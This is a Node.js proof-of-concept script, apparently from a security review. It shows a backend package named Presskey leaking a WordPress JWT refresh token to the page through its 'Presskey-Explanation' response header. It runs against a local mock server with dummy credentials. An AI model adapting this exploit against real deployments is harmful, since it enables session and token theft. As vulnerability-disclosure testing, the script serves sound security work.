// B1: the backend's own header (Presskey-Explanation) hands the refresh token to the page
import { createServer } from "node:http";
import { jwt } from "./lib.mjs";
const { createBackend } = await import("/work/wt/attack10/pkg/dist/server.js");
const refresh = "rt-5f2c9a7b1d3e8f60a4c7";
const server = createServer((req, res) => { // a real server, real headers
  const u = decodeURIComponent(req.url); const send = (v, s = 200, h = {}) => { res.writeHead(s, { "content-type": "application/json", ...h }); res.end(JSON.stringify(v)); };
  if (/\/token$/.test(u)) return send({ token: jwt({ iss: base }), refresh_token: refresh, user_email: "a@b.c", user_nicename: "anna", user_display_name: "Anna" });
  if (u.includes("/acme")) { res.writeHead(400, { "content-type": "text/html", "x-cache": Buffer.from("HIT rt-5f\x9b" + refresh.slice(5), "latin1").toString("latin1") }); return res.end("<!doctype html><html><body>Hello</body></html>"); }
  send({ name: "x", url: base, home: base, namespaces: ["wp/v2", "jwt-auth/v1"], routes: { "/jwt-auth/v1/token/refresh": {} }, authentication: {} });
}).listen(0, "127.0.0.1"); await new Promise((r) => server.once("listening", r));
const base = `http://127.0.0.1:${server.address().port}`;
const backend = createBackend({ site: base, plugin: "jwt-authentication-for-wp-rest-api", secret: "x".repeat(40) });
const call = (path, init = {}) => backend.handle(new Request("https://app.example/api/presskey" + path, { ...init, headers: { "sec-fetch-site": "same-origin", ...init.headers } }));
const login = await call("/login", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ username: "anna", password: "S3cret-Passw0rd" }) });
const cookie = login.headers.getSetCookie().map((c) => c.split(";")[0]).join("; ");
const r = await call("/rest/acme/v1/x", { headers: { cookie } });
console.log(login.status, r.status, decodeURIComponent(r.headers.get("presskey-explanation") ?? "").slice(0, 400));
console.log("refresh token in a header of the backend:", decodeURIComponent(r.headers.get("presskey-explanation") ?? "").includes(refresh));
server.close(); process.exit(0);
